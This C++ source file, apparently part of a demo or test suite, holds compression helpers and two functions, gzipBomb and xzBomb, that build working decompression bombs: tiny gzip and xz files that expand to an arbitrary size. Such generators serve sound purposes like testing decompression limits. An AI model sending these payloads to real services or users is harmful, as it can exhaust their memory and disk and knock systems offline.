#include "demo/Packing.h"

#include <QtEndian>

#include <algorithm>
#include <array>
#include <lzma.h>
#include <memory>
#include <zlib.h>

namespace guide {

namespace {

constexpr std::uint32_t kXzPreset = 6;
constexpr uInt kChunk = 1U << 20;
constexpr std::uint64_t kXzBlock = std::uint64_t(1) << 20;

const Bytef* zBytes(const QByteArray& bytes) {
    return reinterpret_cast<const Bytef*>(bytes.constData());
}

const std::uint8_t* octets(const QByteArray& bytes) {
    return reinterpret_cast<const std::uint8_t*>(bytes.constData());
}

std::uint8_t* octets(QByteArray& bytes) {
    return reinterpret_cast<std::uint8_t*>(bytes.data());
}

/// The chunk as raw deflate blocks that end on a byte and refer to nothing before them, so that they can be
/// repeated.
QByteArray repeatableDeflate(const QByteArray& chunk) {
    z_stream stream{};
    if (deflateInit2(&stream, Z_BEST_COMPRESSION, Z_DEFLATED, -MAX_WBITS, 9, Z_DEFAULT_STRATEGY) != Z_OK) {
        return {};
    }
    QByteArray packed(qsizetype(deflateBound(&stream, uLong(chunk.size()))) + 16, Qt::Uninitialized);
    stream.next_in = const_cast<Bytef*>(zBytes(chunk));
    stream.avail_in = uInt(chunk.size());
    stream.next_out = reinterpret_cast<Bytef*>(packed.data());
    stream.avail_out = uInt(packed.size());
    deflate(&stream, Z_FULL_FLUSH);
    packed.truncate(qsizetype(stream.total_out));
    deflateEnd(&stream);
    return packed;
}

QByteArray littleEndian(std::uint32_t value) {
    QByteArray bytes(4, '\0');
    qToLittleEndian(value, bytes.data());
    return bytes;
}

} // namespace

QByteArray gzipped(const QByteArray& bytes) {
    z_stream stream{};
    if (deflateInit2(&stream, Z_DEFAULT_COMPRESSION, Z_DEFLATED, MAX_WBITS + 16, 8, Z_DEFAULT_STRATEGY) !=
        Z_OK) {
        return {};
    }
    QByteArray packed(qsizetype(deflateBound(&stream, uLong(bytes.size()))), Qt::Uninitialized);
    stream.next_in = const_cast<Bytef*>(zBytes(bytes));
    stream.avail_in = uInt(bytes.size());
    stream.next_out = reinterpret_cast<Bytef*>(packed.data());
    stream.avail_out = uInt(packed.size());
    const int end = deflate(&stream, Z_FINISH);
    packed.truncate(end == Z_STREAM_END ? qsizetype(stream.total_out) : 0);
    deflateEnd(&stream);
    return packed;
}

QByteArray xzPacked(const QByteArray& bytes) {
    QByteArray packed(qsizetype(lzma_stream_buffer_bound(std::size_t(bytes.size()))), Qt::Uninitialized);
    std::size_t size = 0;
    const lzma_ret end =
        lzma_easy_buffer_encode(kXzPreset, LZMA_CHECK_CRC64, nullptr, octets(bytes),
                                std::size_t(bytes.size()), octets(packed), &size, std::size_t(packed.size()));
    packed.truncate(end == LZMA_OK ? qsizetype(size) : 0);
    return packed;
}

QByteArray gzipBomb(std::uint64_t unpackedSize) {
    const QByteArray chunk(kChunk, ' ');
    const QByteArray packedChunk = repeatableDeflate(chunk);
    const auto chunkCrc = crc32(0, zBytes(chunk), kChunk);
    const std::uint64_t chunks = std::max<std::uint64_t>(1, unpackedSize / kChunk);

    // Head: magic, deflate, no flags, no time, best compression, Unix.
    QByteArray bomb = QByteArray::fromHex("1f8b0800000000000203");
    bomb.reserve(bomb.size() + packedChunk.size() * qsizetype(chunks) + 16);
    uLong crc = 0;
    for (std::uint64_t i = 0; i < chunks; ++i) {
        bomb += packedChunk;
        crc = i == 0 ? chunkCrc : crc32_combine(crc, chunkCrc, kChunk);
    }
    // An empty last block, then the checksum and the size.
    bomb += QByteArray::fromHex("0300");
    bomb += littleEndian(std::uint32_t(crc));
    bomb += littleEndian(std::uint32_t(chunks * kChunk));
    return bomb;
}

QByteArray xzBomb(std::uint64_t unpackedSize) {
    const std::uint64_t blocks = std::max<std::uint64_t>(1, unpackedSize / kXzBlock);
    const QByteArray content(qsizetype(kXzBlock), ' ');

    lzma_options_lzma options;
    lzma_lzma_preset(&options, 1);
    std::array<lzma_filter, 2> filters{lzma_filter{LZMA_FILTER_LZMA2, &options},
                                       lzma_filter{LZMA_VLI_UNKNOWN, nullptr}};
    lzma_block block{};
    block.check = LZMA_CHECK_CRC32;
    block.filters = filters.data();
    QByteArray packedBlock(qsizetype(lzma_block_buffer_bound(kXzBlock)), Qt::Uninitialized);
    std::size_t blockSize = 0;
    if (lzma_block_buffer_encode(&block, nullptr, octets(content), kXzBlock, octets(packedBlock), &blockSize,
                                 std::size_t(packedBlock.size())) != LZMA_OK) {
        return {};
    }
    packedBlock.truncate(qsizetype(blockSize));

    const std::unique_ptr<lzma_index, void (*)(lzma_index*)> index(
        lzma_index_init(nullptr), [](lzma_index* made) { lzma_index_end(made, nullptr); });
    lzma_stream_flags flags{};
    flags.check = LZMA_CHECK_CRC32;
    QByteArray head(LZMA_STREAM_HEADER_SIZE, '\0');
    if (!index || lzma_stream_header_encode(&flags, octets(head)) != LZMA_OK) {
        return {};
    }
    QByteArray bomb = head;
    for (std::uint64_t i = 0; i < blocks; ++i) {
        bomb += packedBlock;
        if (lzma_index_append(index.get(), nullptr, lzma_block_unpadded_size(&block), kXzBlock) != LZMA_OK) {
            return {};
        }
    }
    flags.backward_size = lzma_index_size(index.get());
    QByteArray packedIndex(qsizetype(flags.backward_size), '\0');
    std::size_t indexSize = 0;
    QByteArray foot(LZMA_STREAM_HEADER_SIZE, '\0');
    if (lzma_index_buffer_encode(index.get(), octets(packedIndex), &indexSize,
                                 std::size_t(packedIndex.size())) != LZMA_OK ||
        lzma_stream_footer_encode(&flags, octets(foot)) != LZMA_OK) {
        return {};
    }
    return bomb + packedIndex + foot;
}

} // namespace guide
